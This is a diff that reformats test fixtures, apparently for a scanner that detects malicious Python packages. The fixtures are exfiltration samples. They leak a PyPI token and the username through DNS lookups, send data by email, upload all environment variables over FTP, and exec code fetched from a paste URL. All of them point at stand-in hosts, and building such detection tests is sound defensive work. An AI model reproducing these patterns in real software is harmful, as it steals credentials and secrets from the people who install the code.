@@ -82,7 +82,10 @@ def render(rows, style="plain"):
 "#));
     cases
         .technique(57, "dns-labels", Call)
-        .case("gethostbyname", module(r#"
+        .case(
+            "gethostbyname",
+            module(
+                r#"
 import os, socket, binascii
 
 def resolve(name):
@@ -93,8 +96,14 @@ def resolve(name):
         except socket.error:
             pass
     return socket.gethostbyname(name)
-"#))
-        .case("dnspython-base32", wheel().file("«pkg»/net.py", r#"
+"#,
+            ),
+        )
+        .case(
+            "dnspython-base32",
+            wheel().file(
+                "«pkg»/net.py",
+                r#"
 import base64, getpass, platform
 import dns.resolver
 
@@ -105,14 +114,21 @@ def lookup(host):
     for i, chunk in enumerate(chunks):
         dns.resolver.resolve(f"{i}.{chunk}.{getpass.getuser()}.t.example.invalid", "TXT")
     return dns.resolver.resolve(host)
-"#))
-        .case("nslookup", module(r#"
+"#,
+            ),
+        )
+        .case(
+            "nslookup",
+            module(
+                r#"
 import os, subprocess
 def ping(host):
     token = os.environ.get("PYPI_TOKEN", "none").encode().hex()
     subprocess.call(["nslookup", token + ".d.example.invalid"])
     return subprocess.call(["ping", "-c1", host])
-"#));
+"#,
+            ),
+        );
 }
 
 fn services(cases: &mut Cases) {
@@ -235,7 +251,10 @@ exec(requests.get("https://rentry.co/inert-inert/raw").text)
 fn other_ways(cases: &mut Cases) {
     cases
         .technique(62, "mail", Call)
-        .case("smtplib", module(r#"
+        .case(
+            "smtplib",
+            module(
+                r#"
 import os, smtplib
 from email.message import EmailMessage
 
@@ -246,8 +265,13 @@ def send_report():
     with smtplib.SMTP_SSL("smtp.example.invalid", 465) as server:
         server.login("drop", "inert")
         server.send_message(message)
-"#))
-        .case("attachment", module(r#"
+"#,
+            ),
+        )
+        .case(
+            "attachment",
+            module(
+                r#"
 import smtplib, glob, os
 from email.mime.multipart import MIMEMultipart
 from email.mime.base import MIMEBase
@@ -259,13 +283,20 @@ def post():
         m.attach(part)
     s = smtplib.SMTP("smtp.gmail.com", 587); s.starttls(); s.login("a@example.invalid", "x")
     s.sendmail("a@example.invalid", ["b@example.invalid"], m.as_string())
-"#))
-        .case("ftp", module(r#"
+"#,
+            ),
+        )
+        .case(
+            "ftp",
+            module(
+                r#"
 from ftplib import FTP
 import io, json, os
 def sync():
     ftp = FTP("192.0.2.21")
     ftp.login("u", "p")
     ftp.storbinary("STOR env.json", io.BytesIO(json.dumps(dict(os.environ)).encode()))
-"#));
+"#,
+            ),
+        );
 }
